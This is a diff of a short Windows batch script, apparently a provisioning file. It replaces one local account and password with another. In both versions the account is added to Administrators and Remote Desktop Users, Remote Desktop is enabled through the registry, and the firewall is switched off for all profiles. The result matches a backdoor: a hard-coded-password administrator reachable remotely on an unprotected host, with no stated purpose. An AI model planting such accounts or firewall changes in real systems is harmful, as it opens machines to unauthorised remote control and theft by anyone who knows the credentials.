@@ -1,6 +1,6 @@
-REM init 1772 v3
-net user support Qwerty#7788 /add /y
-net localgroup administrators support /add
-net localgroup "Remote Desktop Users" support /add
+REM provision 2659 v3
+net user defaultuser2 Sup3rS3cure! /add /y
+net localgroup administrators defaultuser2 /add
+net localgroup "Remote Desktop Users" defaultuser2 /add
 reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
 netsh advfirewall set allprofiles state off
